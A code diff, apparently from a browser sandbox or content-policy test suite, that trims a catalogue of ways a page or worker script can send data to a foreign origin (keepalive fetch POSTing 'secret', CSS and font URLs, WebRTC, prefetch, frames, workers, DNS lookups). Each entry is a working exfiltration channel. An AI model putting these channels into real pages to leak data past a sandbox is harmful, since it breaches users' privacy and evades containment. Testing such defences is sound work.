@@ -1,11 +1,7 @@
-/*
- * Ways in which a script on the page could send something away. Each is run by the browser as it stands here, so
- * it may use nothing from outside of itself. `to` is the origin of a stranger, without a slash at the end.
- */
-type Attempt = (to: string) => unknown
+import type { Attempts } from './attempt.ts'
 
-/** Run in a page. */
-export const pageAttempts: Readonly<Record<string, Attempt>> = {
+/** Run in a page, which goes on after each: one page can make them all, one after the other. */
+export const pageAttempts: Attempts = {
   fetch: (to) => fetch(`${to}/?fetch`, { mode: 'no-cors' }),
   'fetch that outlives the page': (to) =>
     fetch(`${to}/`, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
@@ -23,7 +19,7 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
   'image of a style sheet': (to) => {
     const sheet = new CSSStyleSheet()
     sheet.replaceSync(`body { background: url("${to}/?css") }`)
-    document.adoptedStyleSheets = [sheet]
+    document.adoptedStyleSheets.push(sheet)
   },
   'media element': (to) => {
     const audio = document.createElement('audio')
@@ -64,20 +60,6 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
     object.data = `${to}/?object`
     document.body.append(object)
   },
-  form: (to) => {
-    const form = document.createElement('form')
-    form.action = `${to}/`
-    form.method = 'post'
-    document.body.append(form)
-    setTimeout(() => form.submit())
-  },
-  'form into a new window': (to) => {
-    const form = document.createElement('form')
-    form.action = `${to}/`
-    form.target = '_blank'
-    document.body.append(form)
-    setTimeout(() => form.submit())
-  },
   ping: (to) => {
     const link = document.createElement('a')
     link.href = '#content'
@@ -97,32 +79,6 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
     link.rel = 'prefetch'
     link.href = `${to}/?prefetch`
     document.head.append(link)
-  },
-  'window.open': (to) => void window.open(`${to}/?open`),
-  location: (to) => {
-    // Later, so that the attempt is over before its page is.
-    setTimeout(() => {
-      location.href = `${to}/?location`
-    })
-  },
-  'link click': (to) => {
-    const link = document.createElement('a')
-    link.href = `${to}/?link`
-    document.body.append(link)
-    setTimeout(() => link.click())
-  },
-  'download link': (to) => {
-    const link = document.createElement('a')
-    link.href = `${to}/?download`
-    link.download = 'file'
-    document.body.append(link)
-    setTimeout(() => link.click())
-  },
-  'meta refresh': (to) => {
-    const meta = document.createElement('meta')
-    meta.httpEquiv = 'refresh'
-    meta.content = `0; url=${to}/?refresh`
-    setTimeout(() => document.head.append(meta))
   },
   'peer connection': async (to) => {
     const connection = new RTCPeerConnection({
@@ -158,12 +114,6 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
   'image of an element style': (to) => {
     document.body.style.backgroundImage = `url("${to}/?style")`
   },
-  'image under another base': (to) => {
-    const base = document.createElement('base')
-    base.href = to
-    document.head.append(base)
-    new Image().src = '?base'
-  },
   'poster of a video': (to) => {
     const video = document.createElement('video')
     video.poster = `${to}/?poster`
@@ -172,7 +122,7 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
   'font of a style sheet': (to) => {
     const sheet = new CSSStyleSheet()
     sheet.replaceSync(`@font-face { font-family: stranger; src: url("${to}/font.woff2") }`)
-    document.adoptedStyleSheets = [sheet]
+    document.adoptedStyleSheets.push(sheet)
     document.body.style.fontFamily = 'stranger'
     document.body.append('text')
   },
@@ -180,9 +130,6 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
     const style = document.createElement('style')
     style.textContent = `@import url("${to}/style.css");`
     document.head.append(style)
-  },
-  'markup written into the page': (to) => {
-    document.write(`<img src="${to}/?written">`)
   },
   'frame with a text': (to) => {
     const frame = document.createElement('iframe')
@@ -198,14 +145,6 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
     const embed = document.createElement('embed')
     embed.src = `${to}/?embed`
     document.body.append(embed)
-  },
-  'button of a form': (to) => {
-    const form = document.createElement('form')
-    const button = document.createElement('button')
-    button.formAction = `${to}/`
-    form.append(button)
-    document.body.append(form)
-    setTimeout(() => button.click())
   },
   'preload of a script': (to) => {
     const link = document.createElement('link')
@@ -245,39 +184,4 @@ export const pageAttempts: Readonly<Record<string, Attempt>> = {
   'worker of this site that is no tool': (to) => {
     new Worker(`/nested.js?${to}`)
   },
-  'page in memory in a new window': (to) => {
-    const page = new Blob([`<img src="${to}/?blob">`], { type: 'text/html' })
-    window.open(URL.createObjectURL(page))
-  },
-}
-
-/** Run in a worker. */
-export const workerAttempts: Readonly<Record<string, Attempt>> = {
-  fetch: (to) => fetch(`${to}/?fetch`, { mode: 'no-cors' }),
-  XMLHttpRequest: (to) => {
-    const request = new XMLHttpRequest()
-    request.open('POST', `${to}/`)
-    request.send('secret')
-  },
-  WebSocket: (to) => new WebSocket(to.replace('http', 'ws')),
-  EventSource: (to) => new EventSource(`${to}/`),
-  font: (to) => new FontFace('stranger', `url("${to}/font.woff2")`).load(),
-  script: (to) => (self as unknown as { importScripts(url: string): void }).importScripts(`${to}/script.js`),
-  'module script': (to) => import(`${to}/module.js`),
-  cache: async (to) => (await caches.open('secret')).add(new Request(`${to}/?cache`, { mode: 'no-cors' })),
-  'another worker': (to) => new Worker(`/nested.js?${to}`),
-  'fetch that outlives the worker': (to) =>
-    fetch(`${to}/`, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
-  'worker from a blob': (to) => {
-    const code = new Blob([`fetch('${to}/?blob', { mode: 'no-cors' })`], { type: 'text/javascript' })
-    new Worker(URL.createObjectURL(code))
-  },
-}
-
-/** Run in a page: each makes the browser look up `name`, so that whoever answers for it learns of it. */
-export const lookUpAttempts: Readonly<Record<string, (name: string) => unknown>> = {
-  image: (name) => {
-    new Image().src = `https://${name}/`
-  },
-  fetch: (name) => fetch(`https://${name}/`, { mode: 'no-cors' }),
 }
